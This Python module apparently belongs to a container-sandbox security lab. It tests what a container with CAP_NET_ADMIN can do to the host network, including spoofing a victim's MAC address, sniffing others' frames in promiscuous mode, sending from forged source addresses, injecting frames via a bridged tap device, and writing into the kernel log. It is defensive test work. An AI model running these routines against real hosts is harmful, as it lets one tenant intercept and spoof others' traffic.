"""The second question about CAP_NET_ADMIN: what the container's own network does to what is outside of it. With judges.

To the host's end of its pair, to the bridge behind that and whoever else is on it, and to what the machine has once.
"""

import contextlib
import errno
import fcntl
import os
import socket
import struct
import subprocess
import time
from typing import TYPE_CHECKING

from cnisandbox.laboratory.attacker import netadmin, netadmin_sockets, observe, raw
from cnisandbox.laboratory.attacker.capabilities import missing
from cnisandbox.laboratory.attacker.knowledge import OPEN_DIRECTORY, Facts, Said
from cnisandbox.laboratory.attacker.network import give_host_an_address

if TYPE_CHECKING:
    from cnisandbox.laboratory.arena import Arena

_VICTIM_ADDRESS, _VICTIM_MAC = "10.9.0.3", bytes.fromhex("02005e0000c0")
_FORGED_MAC, _BROADCAST = bytes.fromhex("02005e0000d0"), b"\xff" * 6
_ETH_P_IP, _ETH_P_LOCAL = 0x0800, 0x88B5
_AF_BRIDGE, _NDA_LLADDR, _RTM_GETMDB = 7, 2, 86
_SOL_PACKET, _PACKET_ADD_MEMBERSHIP, _PACKET_MR_PROMISC = 263, 1, 1
_ATTEMPTS, _PAUSE_S = 50, 0.02
_GLOBAL_SYSCTL = "/proc/sys/net/netfilter/nf_hooks_lwtunnel"
_TUN_DEVICE, _TUNSETIFF, _IFF_TAP, _IFF_NO_PI = "/dev/net/tun", 0x400454CA, 0x2, 0x1000
_MS_BIND = 0x1000


# What the scenes have prepared and the judges ask for: the secret in somebody else's frames, and the kernel's log.
_SECRET_OF_OTHER = [""]
_LOG_FD = [-1]


def _ip(*commands: str, netns: str = "") -> None:
    namespace = ("-n", netns) if netns else ()
    text = "\n".join(commands).encode()
    subprocess.run(["ip", *namespace, "-batch", "-"], input=text, check=True, timeout=10)


def connect_by_bridge(arena: "Arena") -> None:
    """Scene: the container and the victim are ports of hostbr0, which has the host's address."""
    _ip(
        "link add veth9 type veth peer name eth0 netns victim",
        "link set veth0 master hostbr0 up",
        "link set veth9 master hostbr0 up",
        f"address add {netadmin.HOST_ADDRESS}/24 dev hostbr0",
        "link set hostbr0 up",
    )
    _ip(f"address add {netadmin.OWN_ADDRESS}/24 dev eth0", "link set eth0 up", netns="blue")
    mac = _VICTIM_MAC.hex(":")
    _ip(
        f"link set eth0 address {mac} addrgenmode none",
        f"address add {_VICTIM_ADDRESS}/24 dev eth0",
        "link set eth0 up",
        netns="victim",
    )


def _capture_on(arena: "Arena", ifname: str, protocol: int) -> None:
    arena.listener = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    arena.listener.bind((ifname, protocol))


def _host_end(arena: "Arena") -> observe.LinkState:
    found = observe.link(arena, "veth0", observe.HOST)
    return found if found is not None else observe.LinkState(0, 0, {})


# The host's end of the pair


def host_end_has_no_carrier(arena: "Arena") -> bool:
    return _host_end(arena).attributes.get(netadmin.IFLA_CARRIER) == b"\0"


# The bridge of the host, and who else is on it


def take_victims_mac(facts: Facts) -> None:
    """Have the victim's hardware address, and say something that the bridge learns it from."""
    mac = raw.attribute(netadmin.IFLA_ADDRESS, _VICTIM_MAC)
    netadmin.change_link("eth0", change=netadmin.IFF_UP)
    netadmin.change_link("eth0", mac)
    netadmin.change_link("eth0", flags=netadmin.IFF_UP, change=netadmin.IFF_UP)
    netadmin.join_group("eth0", facts)


def victims_frames_go_to_container(arena: "Arena") -> bool:
    host_end = _host_end(arena).ifindex
    return host_end > 0 and observe.eventually(arena, lambda: _learned_behind(arena, _VICTIM_MAC) == host_end)


def _learned_behind(arena: "Arena", mac: bytes) -> int:
    """Say behind which port the bridge has learned a hardware address; 0: behind none."""
    request = bytes([_AF_BRIDGE]) + raw.link_body()[1:]
    for entry in observe.dump(arena, netadmin.RTM_GETNEIGH, request, observe.HOST):
        if raw.attributes(entry[12:]).get(_NDA_LLADDR) == mac:
            return raw.integer(entry[4:8])
    return 0


def host_takes_container_for_owner(arena: "Arena") -> bool:
    """Have the host ask who has the address."""
    eth0 = observe.link(arena, "eth0")
    wanted = eth0.attributes[netadmin.IFLA_ADDRESS] if eth0 else b"no such link"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(b"?", (netadmin.ADDRESS, netadmin_sockets.PORT))
    return observe.eventually(arena, lambda: netadmin.neighbour_mac(arena, observe.HOST) == wanted)


def bridge_has_learned_group(arena: "Arena") -> bool:
    body = struct.pack("=B3xi", _AF_BRIDGE, 0)
    group = netadmin.packed(netadmin.GROUP)
    return observe.eventually(
        arena, lambda: any(group in entry for entry in observe.dump(arena, _RTM_GETMDB, body, observe.HOST))
    )


def send_to_silent_neighbour(arena: "Arena") -> None:
    """Scene: the host keeps sending frames to a hardware address that the bridge has not learned."""
    connect_by_bridge(arena)
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.close(reader)
        _keep_sending(writer)
    os.close(writer)
    _SECRET_OF_OTHER[:] = [os.read(reader, 16).decode()]
    os.close(reader)


def _keep_sending(writer: int) -> None:
    secret = os.urandom(8).hex().encode()
    os.write(writer, secret)
    channel = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    channel.bind(("hostbr0", 0))
    header = bytes.fromhex("02005e0000e0") + _FORGED_MAC + struct.pack(">H", _ETH_P_LOCAL)
    while True:
        channel.send(header + secret.ljust(46, b"\0"))
        time.sleep(_PAUSE_S)


def read_frame_of_other(facts: Facts) -> Said:
    """Set eth0 promiscuous and read a frame that is for somebody else."""
    channel = netadmin_sockets.kept_socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_LOCAL))
    channel.bind(("eth0", _ETH_P_LOCAL))
    membership = struct.pack("=iHH8x", socket.if_nametoindex("eth0"), _PACKET_MR_PROMISC, 0)
    channel.setsockopt(_SOL_PACKET, _PACKET_ADD_MEMBERSHIP, membership)
    channel.settimeout(_ATTEMPTS * _PAUSE_S)
    return Said(0, 0, channel.recv(128)[14:30].decode())


def said_secret_of_other(arena: "Arena") -> bool:
    return arena.said.text == _SECRET_OF_OTHER[0]


# What leaves the container


def capture_packets(arena: "Arena") -> None:
    """Scene: the pair has addresses, and the host looks at what comes out of it."""
    give_host_an_address(arena)
    _capture_on(arena, "veth0", _ETH_P_IP)


def send_from_foreign_address(facts: Facts) -> None:
    channel = netadmin_sockets.kept_socket(socket.AF_INET, socket.SOCK_DGRAM)
    channel.setsockopt(socket.SOL_IP, netadmin_sockets.IP_TRANSPARENT, 1)
    channel.bind((netadmin_sockets.FOREIGN_ADDRESS, 0))
    channel.sendto(b"?", (netadmin.HOST_ADDRESS, netadmin_sockets.PORT))


def packet_of_foreign_address_has_left(arena: "Arena") -> bool:
    source = socket.inet_aton(netadmin_sockets.FOREIGN_ADDRESS)
    return observe.eventually(arena, lambda: any(packet[26:30] == source for packet in observe.packets(arena)))


def send_with_type_of_service(facts: Facts) -> None:
    channel = netadmin_sockets.kept_socket(socket.AF_INET, socket.SOCK_DGRAM)
    channel.setsockopt(socket.SOL_IP, socket.IP_TOS, netadmin_sockets.TOS)
    channel.sendto(b"?", (netadmin.HOST_ADDRESS, netadmin_sockets.PORT))


def packet_with_type_of_service_has_left(arena: "Arena") -> bool:
    is_so = bytes([netadmin_sockets.TOS])
    return observe.eventually(arena, lambda: any(packet[15:16] == is_so for packet in observe.packets(arena)))


def capture_forged_frames(arena: "Arena") -> None:
    """Scene: the pair is up, the host looks at what comes out, and everybody may make a tap, as udev leaves it."""
    device = f"{OPEN_DIRECTORY}/tun"
    os.mknod(device, 0o020666, os.makedev(10, 200))
    os.chmod(device, 0o666)
    raw.syscall("mount", device.encode() + b"\0", _TUN_DEVICE.encode() + b"\0", b"none\0", _MS_BIND, b"\0")
    give_host_an_address(arena)
    _capture_on(arena, "veth0", _ETH_P_LOCAL)


def _open_tap(ifname: str) -> int:
    """Make a tap device; it is there as long as the descriptor is."""
    fd = os.open(_TUN_DEVICE, os.O_RDWR | os.O_NONBLOCK)
    fcntl.ioctl(fd, _TUNSETIFF, struct.pack("=16sH22x", ifname.encode(), _IFF_TAP | _IFF_NO_PI))
    return fd


def lacks_tun() -> str:
    """Name the option without which there are no tap devices."""
    absent = (errno.ENOENT, errno.ENXIO, errno.ENODEV)
    return missing("CONFIG_TUN", lambda: netadmin.in_fresh_netns(lambda: _open_tap("probe0")), *absent)


def forge_frame_by_tap(facts: Facts) -> Said:
    """Send any frame without CAP_NET_RAW: into a tap that is bridged with eth0."""
    fd = _open_tap("esc1")
    netadmin.create_bridge(facts)
    bridge = raw.attribute(netadmin.IFLA_MASTER, netadmin.ifindex_of(raw.Netlink(), "esc0"))
    for ifname in ("eth0", "esc1"):
        netadmin.change_link(ifname, bridge)
    for ifname in ("esc1", "esc0"):
        netadmin.change_link(ifname, flags=netadmin.IFF_UP, change=netadmin.IFF_UP)
    os.write(fd, _BROADCAST + _FORGED_MAC + struct.pack(">H", _ETH_P_LOCAL) + bytes(46))
    return Said(0, fd)


def forged_frame_has_left(arena: "Arena") -> bool:
    return observe.eventually(arena, lambda: any(packet[6:12] == _FORGED_MAC for packet in observe.packets(arena)))


# What the machine has only once


def open_global_sysctl(facts: Facts) -> Said:
    """Open a setting that is writable in every netns and is the whole machine's; once it is 1 it stays so."""
    return Said(0, os.open(_GLOBAL_SYSCTL, os.O_WRONLY))


def may_write_global_sysctl(arena: "Arena") -> bool:
    return _GLOBAL_SYSCTL in arena.descriptors().values()


def listen_to_kernel_log(arena: "Arena") -> None:
    """Scene: whatever the kernel logs from now on is read."""
    _LOG_FD[:] = [os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)]
    os.lseek(_LOG_FD[0], 0, os.SEEK_END)


def write_to_kernel_log(facts: Facts) -> Said:
    """Have the kernel log a word of the attacker's: the name of a link that becomes promiscuous."""
    word = "e" + os.urandom(6).hex()
    raw.Netlink().create(raw.attribute(raw.IFLA_IFNAME, word), raw.link_info("bridge"))
    netadmin.change_link(word, flags=netadmin.IFF_PROMISC, change=netadmin.IFF_PROMISC)
    # So that what is seen of it afterwards is the same each time.
    netadmin.change_link(word, raw.attribute(raw.IFLA_IFNAME, "escaped0"))
    return Said(0, 0, word)


def kernel_log_has_word(arena: "Arena") -> bool:
    word = arena.said.text.encode()
    with contextlib.suppress(BlockingIOError):  # the end of the log
        while word:
            with contextlib.suppress(BrokenPipeError):  # overwritten before it was read
                if word in os.read(_LOG_FD[0], 8192):
                    return True
    return False


def lacks_global_sysctl() -> str:
    """Say that this kernel has no such setting."""
    return "" if os.path.exists(_GLOBAL_SYSCTL) else "CONFIG_LWTUNNEL"
